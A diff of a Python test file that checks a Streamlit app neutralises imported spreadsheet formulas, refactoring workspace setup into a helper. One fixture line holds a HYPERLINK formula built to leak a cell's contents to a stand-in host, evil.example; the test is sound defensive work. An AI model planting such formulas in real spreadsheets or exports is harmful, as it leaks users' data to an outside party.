@@ -8,13 +8,14 @@ from __future__ import annotations
 
 import json
 import re
-import shutil
 from pathlib import Path
 
 import pandas as pd
 from streamlit.testing.v1 import AppTest
 
 from ui.safe_tables import display_safe_cell, spreadsheet_safe
+
+from tests.sample_data_dir import sample_data_dir
 
 ROOT = Path(__file__).resolve().parent.parent
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -53,12 +54,7 @@ def test_an_imported_formula_question_is_neutralised_in_the_evaluate_table(tmp_p
     from core.auth import LOCAL_ADMIN
     from core.workspace import Workspace
 
-    folder = tmp_path / "workspaces"
-    folder.mkdir()
-    shutil.copytree(sample_workspace_dir, folder / "default")
-    for name in ("RAGSCOPE_WORKSPACE", "RAGSCOPE_LLM_BASE_URL", "RAGSCOPE_LLM_MODEL", "RAGSCOPE_ROLES"):
-        monkeypatch.delenv(name, raising=False)
-    monkeypatch.setenv("RAGSCOPE_DATA_DIR", str(folder))
+    folder = sample_data_dir(tmp_path, monkeypatch, sample_workspace_dir)
     ws = Workspace(folder / "default")
     try:
         doc = api.documents(LOCAL_ADMIN, ws)[0]
